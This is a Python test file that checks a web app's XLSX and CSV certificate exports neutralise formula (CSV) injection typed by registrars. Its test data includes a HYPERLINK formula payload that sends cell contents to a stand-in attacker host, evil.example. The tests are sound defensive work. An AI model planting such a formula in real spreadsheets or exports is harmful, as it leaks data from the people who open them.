"""OWASP CSV injection: text a registrar typed (a holder's position, an organisation's
name) reaches the manager's spreadsheet as text, never as a live formula."""
from __future__ import annotations

import csv
import io
import zipfile

import sqlalchemy as sa
from openpyxl import load_workbook

from ra.enrollment.holder_models import Holder
from ra.extensions import db
from tests.enrollment.helpers import login
from tests.reports.test_exports import Q

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _poison(app):
    with app.app_context():
        db.session.execute(sa.update(Holder).values(position=EVIL))
        db.session.commit()


def test_xlsx_export_writes_a_formula_typed_by_a_registrar_as_a_text_cell(app, client, scenario):
    _poison(app)
    login(client, scenario.manager_email)
    data = client.get(f"/reports/certificates?{Q}&format=xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets)                      # no formula anywhere
    rows = [list(r) for r in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)]
    assert any(EVIL in r for r in rows)                              # the text is still there, as typed


def test_csv_export_puts_a_quote_before_a_formula_start(app, client, scenario):
    _poison(app)
    login(client, scenario.manager_email)
    table = list(csv.reader(io.StringIO(client.get(f"/reports/certificates?{Q}&format=csv")
                                        .data.decode("utf-8-sig"))))
    cells = [c for r in table[1:] for c in r]
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
